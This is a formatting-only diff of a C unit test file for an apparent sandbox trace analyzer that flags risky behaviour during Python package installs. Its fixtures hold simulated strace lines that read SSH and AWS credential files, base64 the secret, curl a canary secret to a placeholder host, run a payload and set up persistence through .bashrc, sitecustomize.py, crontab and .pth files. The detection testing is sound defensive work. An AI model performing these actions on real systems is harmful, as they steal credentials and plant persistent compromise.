@@ -13,15 +13,14 @@
 #include "jx.h"
 #include "log.h"
 
-static const char *const allow[] = { "/home/pyti/venv", "/home/pyti/work",
-				     "/tmp", "/home/pyti/.cache", NULL };
-static const char *const canaries[] = { "/home/pyti/.ssh/id_rsa",
-					"/home/pyti/.aws/credentials", NULL };
-static const char *const exec_ok[] = { "python3*", "gcc", "x86_64-linux-gnu-*",
-				       NULL };
-static const struct guest_trace_policy pol = {
-	"install", "/home/pyti", allow, canaries, exec_ok, 53
-};
+static const char *const allow[] = {"/home/pyti/venv", "/home/pyti/work",
+                                    "/tmp", "/home/pyti/.cache", NULL};
+static const char *const canaries[] = {"/home/pyti/.ssh/id_rsa",
+                                       "/home/pyti/.aws/credentials", NULL};
+static const char *const exec_ok[] = {"python3*", "gcc", "x86_64-linux-gnu-*",
+                                      NULL};
+static const struct guest_trace_policy pol = {"install", "/home/pyti", allow,
+                                              canaries,  exec_ok,      53};
 
 static struct guest_findings
 parse(const char *text, struct guest_trace_stats *st)
@@ -50,23 +49,36 @@ detail_of(const struct guest_findings *f, const char *kind)
 static void
 test_guest_trace_clean_install_has_no_findings(void **state)
 {
-	struct guest_trace_stats st = { 0 };
+	struct guest_trace_stats st = {0};
 	struct guest_findings f = parse(
-		"100 execve(\"/home/pyti/venv/bin/python3\", [\"python3\", \"-m\", \"pip\"], 0x7ffd /* 3 vars */) = 0\n"
-		"100 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py\", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = 3</home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py>\n"
-		"100 openat(AT_FDCWD</home/pyti/work>, \"build/x.o\", O_RDWR|O_CREAT, 0644) = 4</home/pyti/work/build/x.o>\n"
-		"100 openat(AT_FDCWD</home/pyti/work>, \"/etc/ld.so.cache\", O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>\n"
-		"100 connect(3<socket:[1]>, {sa_family=AF_UNIX, sun_path=\"/var/run/nscd/socket\"}, 110) = -1 ENOENT (No such file or directory)\n"
-		"100 vfork( <unfinished ...>\n"
-		"101 execve(\"/usr/bin/gcc\", [\"gcc\", \"-c\", \"x.c\"], 0x1 /* 1 vars */ <unfinished ...>\n"
-		"100 <... vfork resumed>)              = 101\n"
-		"101 <... execve resumed>)             = 0\n"
-		"101 unlinkat(AT_FDCWD</home/pyti/work>, \"tmp.o\", 0) = 0\n"
-		"101 mkdir(\"build/lib\", 0777) = 0\n"
-		"101 execve(\"/usr/local/bin/lsb_release\", [\"lsb_release\", \"-a\"], 0x1 /* 1 vars */) = -1 ENOENT (No such file or directory)\n"
-		"101 bind(3<socket:[9]>, {sa_family=AF_INET6, sin6_port=htons(0), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"::1\", &sin6_addr), sin6_scope_id=0}, 28) = 0\n"
-		"101 +++ exited with 0 +++\n",
-		&st);
+	    "100 execve(\"/home/pyti/venv/bin/python3\", [\"python3\", \"-m\", "
+	    "\"pip\"], 0x7ffd /* 3 vars */) = 0\n"
+	    "100 openat(AT_FDCWD</home/pyti/work>, "
+	    "\"/home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py\", "
+	    "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = "
+	    "3</home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py>\n"
+	    "100 openat(AT_FDCWD</home/pyti/work>, \"build/x.o\", "
+	    "O_RDWR|O_CREAT, 0644) = 4</home/pyti/work/build/x.o>\n"
+	    "100 openat(AT_FDCWD</home/pyti/work>, \"/etc/ld.so.cache\", "
+	    "O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>\n"
+	    "100 connect(3<socket:[1]>, {sa_family=AF_UNIX, "
+	    "sun_path=\"/var/run/nscd/socket\"}, 110) = -1 ENOENT (No such "
+	    "file or directory)\n"
+	    "100 vfork( <unfinished ...>\n"
+	    "101 execve(\"/usr/bin/gcc\", [\"gcc\", \"-c\", \"x.c\"], 0x1 /* 1 "
+	    "vars */ <unfinished ...>\n"
+	    "100 <... vfork resumed>)              = 101\n"
+	    "101 <... execve resumed>)             = 0\n"
+	    "101 unlinkat(AT_FDCWD</home/pyti/work>, \"tmp.o\", 0) = 0\n"
+	    "101 mkdir(\"build/lib\", 0777) = 0\n"
+	    "101 execve(\"/usr/local/bin/lsb_release\", [\"lsb_release\", "
+	    "\"-a\"], 0x1 /* 1 vars */) = -1 ENOENT (No such file or "
+	    "directory)\n"
+	    "101 bind(3<socket:[9]>, {sa_family=AF_INET6, sin6_port=htons(0), "
+	    "sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"::1\", &sin6_addr), "
+	    "sin6_scope_id=0}, 28) = 0\n"
+	    "101 +++ exited with 0 +++\n",
+	    &st);
 
 	assert_int_equal(json_array_size(f.list), 0);
 	assert_int_equal(st.execs, 2);
@@ -79,22 +91,33 @@ static void
 test_guest_trace_network_attempts(void **state)
 {
 	struct guest_findings f = parse(
-		"7 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = 0\n"
-		"7 connect(3<socket:[47531]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = -1 ENETUNREACH (Network is unreachable)\n"
-		"7 connect(3<socket:[47531]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = -1 ENETUNREACH (Network is unreachable)\n"
-		"7 sendto(4<socket:[2]>, \"x\", 1, 0, {sa_family=AF_INET6, sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"2001:db8::1\", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)\n"
-		"7 sendto(5<socket:[3]>, \"\\x12\\x34\", 30, MSG_NOSIGNAL, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 30\n"
-		"7 bind(6<socket:[4]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"0.0.0.0\")}, 16) = 0\n",
-		NULL);
+	    "7 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
+	    "0\n"
+	    "7 connect(3<socket:[47531]>, {sa_family=AF_INET, "
+	    "sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = "
+	    "-1 ENETUNREACH (Network is unreachable)\n"
+	    "7 connect(3<socket:[47531]>, {sa_family=AF_INET, "
+	    "sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = "
+	    "-1 ENETUNREACH (Network is unreachable)\n"
+	    "7 sendto(4<socket:[2]>, \"x\", 1, 0, {sa_family=AF_INET6, "
+	    "sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "
+	    "\"2001:db8::1\", &sin6_addr), sin6_scope_id=0}, 28) = -1 "
+	    "ENETUNREACH (Network is unreachable)\n"
+	    "7 sendto(5<socket:[3]>, \"\\x12\\x34\", 30, MSG_NOSIGNAL, "
+	    "{sa_family=AF_INET, sin_port=htons(53), "
+	    "sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 30\n"
+	    "7 bind(6<socket:[4]>, {sa_family=AF_INET, sin_port=htons(4444), "
+	    "sin_addr=inet_addr(\"0.0.0.0\")}, 16) = 0\n",
+	    NULL);
 
 	/* the repeated connect is one finding; the stub query is none */
 	assert_int_equal(guest_findings_count(&f, "network.connect"), 1);
 	assert_string_equal(detail_of(&f, "network.connect"),
-			    "connect to 203.0.113.7 port 443 (inet): "
-			    "ENETUNREACH");
+	                    "connect to 203.0.113.7 port 443 (inet): "
+	                    "ENETUNREACH");
 	assert_int_equal(guest_findings_count(&f, "network.dns"), 1);
 	assert_string_equal(detail_of(&f, "network.dns"),
-			    "DNS query to 2001:db8::1 port 53");
+	                    "DNS query to 2001:db8::1 port 53");
 	assert_int_equal(guest_findings_count(&f, "network.listen"), 1);
 	assert_int_equal(f.critical, 2);
 	guest_findings_release(&f);
@@ -104,27 +127,40 @@ static void
 test_guest_trace_files_canaries_channel_persistence(void **state)
 {
 	struct guest_findings f = parse(
-		"9 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = 0\n"
-		"9 openat(AT_FDCWD</home/pyti/work>, \"../.ssh/id_rsa\", O_RDONLY|O_CLOEXEC) = 3</home/pyti/.ssh/id_rsa>\n"
-		"9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/.aws/credentials\", O_RDONLY) = -1 EACCES (Permission denied)\n"
-		"9 openat(AT_FDCWD</>, \"/dev/vport2p1\", O_WRONLY) = -1 EACCES (Permission denied)\n"
-		"9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/.bashrc\", O_WRONLY|O_APPEND) = 3</home/pyti/.bashrc>\n"
-		"9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/venv/lib/python3.11/site-packages/sitecustomize.py\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</home/pyti/venv/lib/python3.11/site-packages/sitecustomize.py>\n"
-		"9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/notes.txt\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</home/pyti/notes.txt>\n"
-		"9 openat(AT_FDCWD</home/pyti/work>, \"/etc/shadow\", O_RDONLY) = -1 EACCES (Permission denied)\n"
-		"9 unlink(\"/home/pyti/.gitconfig\") = 0\n"
-		"9 rename(\"/tmp/a\", \"/home/pyti/.config/autostart/x.desktop\") = 0\n"
-		"9 openat(AT_FDCWD</>, \"/var/spool/cron/crontabs/pyti\", O_WRONLY|O_CREAT, 0600) = -1 EACCES (Permission denied)\n",
-		NULL);
+	    "9 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
+	    "0\n"
+	    "9 openat(AT_FDCWD</home/pyti/work>, \"../.ssh/id_rsa\", "
+	    "O_RDONLY|O_CLOEXEC) = 3</home/pyti/.ssh/id_rsa>\n"
+	    "9 openat(AT_FDCWD</home/pyti/work>, "
+	    "\"/home/pyti/.aws/credentials\", O_RDONLY) = -1 EACCES "
+	    "(Permission denied)\n"
+	    "9 openat(AT_FDCWD</>, \"/dev/vport2p1\", O_WRONLY) = -1 EACCES "
+	    "(Permission denied)\n"
+	    "9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/.bashrc\", "
+	    "O_WRONLY|O_APPEND) = 3</home/pyti/.bashrc>\n"
+	    "9 openat(AT_FDCWD</home/pyti/work>, "
+	    "\"/home/pyti/venv/lib/python3.11/site-packages/"
+	    "sitecustomize.py\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = "
+	    "3</home/pyti/venv/lib/python3.11/site-packages/sitecustomize.py>\n"
+	    "9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/notes.txt\", "
+	    "O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</home/pyti/notes.txt>\n"
+	    "9 openat(AT_FDCWD</home/pyti/work>, \"/etc/shadow\", O_RDONLY) = "
+	    "-1 EACCES (Permission denied)\n"
+	    "9 unlink(\"/home/pyti/.gitconfig\") = 0\n"
+	    "9 rename(\"/tmp/a\", \"/home/pyti/.config/autostart/x.desktop\") "
+	    "= 0\n"
+	    "9 openat(AT_FDCWD</>, \"/var/spool/cron/crontabs/pyti\", "
+	    "O_WRONLY|O_CREAT, 0600) = -1 EACCES (Permission denied)\n",
+	    NULL);
 
 	assert_int_equal(guest_findings_count(&f, "credential.read"), 2);
 	assert_int_equal(guest_findings_count(&f, "channel.forgery"), 1);
 	assert_int_equal(guest_findings_count(&f, "persistence.bashrc"), 1);
 	assert_int_equal(guest_findings_count(&f, "persistence.sitecustomize"),
-			 1);
+	                 1);
 	assert_int_equal(guest_findings_count(&f, "file.write_outside"), 1);
 	assert_string_equal(detail_of(&f, "file.write_outside"),
-			    "wrote /home/pyti/notes.txt");
+	                    "wrote /home/pyti/notes.txt");
 	assert_int_equal(guest_findings_count(&f, "file.read_sensitive"), 1);
 	assert_int_equal(guest_findings_count(&f, "file.delete_outside"), 1);
 	assert_int_equal(guest_findings_count(&f, "persistence.autostart"), 1);
@@ -137,14 +173,22 @@ static void
 test_guest_trace_exec_and_fork_failure(void **state)
 {
 	struct guest_findings f = parse(
-		"5 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = 0\n"
-		"6 execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"echo $AWS_SECRET | base64\"], 0x1 /* 20 vars */) = 0\n"
-		"7 execve(\"/usr/bin/crontab\", [\"crontab\", \"-\"], 0x1 /* 20 vars */) = 0\n"
-		"8 execve(\"/usr/bin/curl\", [\"curl\", \"-d\", \"k=pyti-canary-aws-secret-00\", \"http://x\"], 0x1 /* 1 vars */) = -1 ENOENT (No such file or directory)\n"
-		"9 execve(\"./payload\", [\"./payload\"], 0x1 /* 1 vars */) = 0\n"
-		"5 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily unavailable)\n"
-		"5 clone(child_stack=NULL, flags=SIGCHLD) = -1 EAGAIN (Resource temporarily unavailable)\n",
-		NULL);
+	    "5 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
+	    "0\n"
+	    "6 execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"echo $AWS_SECRET | "
+	    "base64\"], 0x1 /* 20 vars */) = 0\n"
+	    "7 execve(\"/usr/bin/crontab\", [\"crontab\", \"-\"], 0x1 /* 20 "
+	    "vars */) = 0\n"
+	    "8 execve(\"/usr/bin/curl\", [\"curl\", \"-d\", "
+	    "\"k=pyti-canary-aws-secret-00\", \"http://x\"], 0x1 /* 1 vars */) "
+	    "= -1 ENOENT (No such file or directory)\n"
+	    "9 execve(\"./payload\", [\"./payload\"], 0x1 /* 1 vars */) = 0\n"
+	    "5 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, "
+	    "child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily "
+	    "unavailable)\n"
+	    "5 clone(child_stack=NULL, flags=SIGCHLD) = -1 EAGAIN (Resource "
+	    "temporarily unavailable)\n",
+	    NULL);
 
 	assert_int_equal(guest_findings_count(&f, "process.exec"), 4);
 	assert_int_equal(guest_findings_count(&f, "persistence.crontab"), 1);
@@ -166,12 +210,13 @@ test_guest_trace_hostile_text(void **state)
 	big[sizeof(big) - 2] = '\n';
 	big[sizeof(big) - 1] = '\0';
 	f = parse("1 execve(\"/usr/bin/python3\", [], 0) = 0\n"
-		  "1 openat(AT_FDCWD</>, \"/etc/x\\377\\300y, O_WRONLY) = 3\n"
-		  "1 openat(AT_FDCWD</>, \"/etc/\\377\\300y\", O_WRONLY) = 3</etc/\\377\\300y>\n"
-		  "2 <... openat resumed>) = 0\n"
-		  "garbage\n"
-		  "3 --- SIGCHLD {si_signo=SIGCHLD} ---\n",
-		  NULL);
+	          "1 openat(AT_FDCWD</>, \"/etc/x\\377\\300y, O_WRONLY) = 3\n"
+	          "1 openat(AT_FDCWD</>, \"/etc/\\377\\300y\", O_WRONLY) = "
+	          "3</etc/\\377\\300y>\n"
+	          "2 <... openat resumed>) = 0\n"
+	          "garbage\n"
+	          "3 --- SIGCHLD {si_signo=SIGCHLD} ---\n",
+	          NULL);
 	assert_int_equal(guest_findings_count(&f, "file.write_outside"), 1);
 	dump = json_dumps(f.list, 0); /* valid UTF-8 JSON */
 	assert_non_null(dump);
@@ -185,31 +230,31 @@ test_guest_trace_hostile_text(void **state)
 static void
 test_guest_persistence_and_pth(void **state)
 {
-	assert_string_equal(guest_persistence_kind("/home/pyti/.profile",
-						   "/home/pyti"),
-			    "persistence.bashrc");
-	assert_string_equal(guest_persistence_kind("/etc/cron.d/x",
-						   "/home/pyti"),
-			    "persistence.crontab");
-	assert_null(guest_persistence_kind("/home/pyti/venv/x.py",
-					   "/home/pyti"));
-	assert_true(guest_pth_executable("./lib\nimport os; os.system('x')\n",
-					 31));
-	assert_false(guest_pth_executable("./lib\n# import os\nimportlib\n",
-					  27));
+	assert_string_equal(
+	    guest_persistence_kind("/home/pyti/.profile", "/home/pyti"),
+	    "persistence.bashrc");
+	assert_string_equal(
+	    guest_persistence_kind("/etc/cron.d/x", "/home/pyti"),
+	    "persistence.crontab");
+	assert_null(
+	    guest_persistence_kind("/home/pyti/venv/x.py", "/home/pyti"));
+	assert_true(
+	    guest_pth_executable("./lib\nimport os; os.system('x')\n", 31));
+	assert_false(
+	    guest_pth_executable("./lib\n# import os\nimportlib\n", 27));
 }
 
 int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_guest_trace_clean_install_has_no_findings),
-		cmocka_unit_test(test_guest_trace_network_attempts),
-		cmocka_unit_test(
-			test_guest_trace_files_canaries_channel_persistence),
-		cmocka_unit_test(test_guest_trace_exec_and_fork_failure),
-		cmocka_unit_test(test_guest_trace_hostile_text),
-		cmocka_unit_test(test_guest_persistence_and_pth),
+	    cmocka_unit_test(test_guest_trace_clean_install_has_no_findings),
+	    cmocka_unit_test(test_guest_trace_network_attempts),
+	    cmocka_unit_test(
+	        test_guest_trace_files_canaries_channel_persistence),
+	    cmocka_unit_test(test_guest_trace_exec_and_fork_failure),
+	    cmocka_unit_test(test_guest_trace_hostile_text),
+	    cmocka_unit_test(test_guest_persistence_and_pth),
 	};
 
 	log_set_prog("test_guest_trace");
